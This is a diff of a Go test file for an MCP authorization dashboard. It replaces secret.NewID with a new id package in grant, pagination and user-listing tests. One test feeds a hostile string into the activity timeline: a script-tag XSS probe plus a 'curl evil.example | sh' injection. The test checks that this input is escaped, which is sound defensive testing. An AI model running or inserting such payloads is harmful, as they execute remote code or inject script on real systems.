@@ -1,6 +1,7 @@
 package dashboard_test
 
 import (
+	"mcpauth.example/internal/id"
 	"net/http"
 	"net/url"
 	"strings"
@@ -12,15 +13,15 @@ import (
 )
 
 // grant makes a person who allowed a client at the first MCP server of the world's project, and the timeline of it.
-func (w *world) grant(t *testing.T, email, client string) (user, grant, attempt secret.ID) {
+func (w *world) grant(t *testing.T, email, client string) (user, grant, attempt id.ID) {
 	t.Helper()
 	user = must(w.store.EnsureUser(t.Context(), w.project, email, ""))
-	grant, attempt = secret.NewID(), secret.NewID()
+	grant, attempt = id.New(), id.New()
 	w.exec(t, `INSERT INTO grants (project_id, id, flow_id, issuer, user_id, client_id, mcp_server_id, resource, scopes, redirect_uri, code_challenge, random_hash, session_id,
 			client_auth_method, auth_time, refreshable, code_expires_at, code_redeemed_at, generation, rotated_at, access_expires_at, idle_expires_at, expires_at)
 		SELECT project_id, $2, $3, 'http://localhost:8080/t/acme', $4, $5, id, resource, '{mcp:tools}', 'http://localhost/callback', 'challenge', 'hash', $6, 'none', now(), true,
 			now() + interval '1 minute', now(), 1, now(), now() + interval '1 hour', now() + interval '30 days', now() + interval '1 year'
-		FROM mcp_servers WHERE project_id = $1 ORDER BY created_at LIMIT 1`, w.project.String(), grant.String(), attempt.String(), user.String(), client, secret.NewID().String())
+		FROM mcp_servers WHERE project_id = $1 ORDER BY created_at LIMIT 1`, w.project.String(), grant.String(), attempt.String(), user.String(), client, id.New().String())
 	for i, step := range []tenants.Step{tenants.StepAuthorize, tenants.StepSignIn, tenants.StepConsent, tenants.StepToken} {
 		w.step(t, tenants.Activity{At: time.Now().Add(time.Duration(i-10) * time.Second), AttemptID: attempt, Step: step, Outcome: tenants.OutcomeOK, ClientID: client, GrantID: grant, UserID: user})
 	}
@@ -35,7 +36,7 @@ func (s *site) step(t *testing.T, a tenants.Activity) {
 		t.Fatal(err)
 	}
 	s.exec(t, `INSERT INTO activity (project_id, id, at, attempt_id, step, outcome, client_id, client_name, agent, code, parameter, got, expected, advice)
-		VALUES ($1, $2, $3, $4, $5, $6, $7, $8, $9, $10, $11, $12, $13, $14)`, project, secret.NewID().String(), a.At, a.AttemptID.String(), string(a.Step), string(a.Outcome),
+		VALUES ($1, $2, $3, $4, $5, $6, $7, $8, $9, $10, $11, $12, $13, $14)`, project, id.New().String(), a.At, a.AttemptID.String(), string(a.Step), string(a.Outcome),
 		a.ClientID, a.ClientName, a.Agent, a.Code, a.Parameter, a.Got, a.Expected, a.Advice)
 }
 
@@ -116,7 +117,7 @@ func TestListsPageByCursor(t *testing.T) {
 	}
 	next, _ := b.get(t, w.of(t, "/users")).doc.Find(`a[rel=next]`).Attr("href")
 	_, cursor, _ := strings.Cut(next, "after=")
-	for _, forged := range []string{w.of(t, "/users?after=AAAA"), w.of(t, "/users?after="+secret.NewID().String()), w.of(t, "/connections?after="+cursor), w.of(t, "/users?after="+cursor[:len(cursor)-2]+"xx")} {
+	for _, forged := range []string{w.of(t, "/users?after=AAAA"), w.of(t, "/users?after="+id.New().String()), w.of(t, "/connections?after="+cursor), w.of(t, "/users?after="+cursor[:len(cursor)-2]+"xx")} {
 		b.get(t, forged).want(t, http.StatusBadRequest)
 	}
 }
@@ -151,7 +152,7 @@ func TestTimelineShowsStrangersAsText(t *testing.T) {
 	t.Parallel()
 	w := newWorld(t)
 	evil := `<script>alert(1)</script>"'; curl evil.example | sh #`
-	attempt := secret.NewID()
+	attempt := id.New()
 	w.step(t, tenants.Activity{At: time.Now(), AttemptID: attempt, Step: tenants.StepToken, Outcome: tenants.OutcomeRefused, ClientID: evil, ClientName: evil, Agent: evil,
 		Code: "invalid_grant", Parameter: "code", Got: evil, Expected: "a code", Advice: "Try again."})
 	page := w.as(t, "viewer").get(t, w.of(t, "/activity")).want(t, http.StatusOK)
@@ -175,7 +176,7 @@ func TestPeopleWithoutAnAddress(t *testing.T) {
 	user, _, _ := w.grant(t, "eve@people.example", string(must(secret.Decode(w.params[":client"]))))
 	w.exec(t, `UPDATE users SET email = NULL, email_verified_at = NULL WHERE id = $1`, user.String())
 	w.exec(t, `INSERT INTO user_identities (project_id, id, account_id, issuer, subject, contact) VALUES ($1, $2, $3, 'https://peer.example', 'eve', 'eve@people.example')`,
-		w.project.String(), secret.NewID().String(), user.String())
+		w.project.String(), id.New().String(), user.String())
 	const called = "eve@people.example"
 	base := strings.TrimSuffix(w.of(t, "/users"), "/")
 	for _, path := range []string{base, base + "?q=eve@people", base + "/" + user.String(), w.of(t, "/connections"), w.of(t, "/connections") + "?user=" + user.String()} {
@@ -247,7 +248,7 @@ func TestReviewersAreListed(t *testing.T) {
 	if got := row("viewer", "store@acme.example"); email == "" || !strings.Contains(got, "Works") || !strings.Contains(got, email) || !strings.HasSuffix(got, "forms none") {
 		t.Errorf("a viewer: got %q, want that it works, %q and no form", got, email)
 	}
-	w.exec(t, `UPDATE users SET reviewer_maker = $1 WHERE reviewer_address = 'store@acme.example'`, "member:"+secret.NewID().String())
+	w.exec(t, `UPDATE users SET reviewer_maker = $1 WHERE reviewer_address = 'store@acme.example'`, "member:"+id.New().String())
 	if got := row("viewer", "store@acme.example"); !strings.Contains(got, "a former member") {
 		t.Errorf("its maker is gone: got %q", got)
 	}
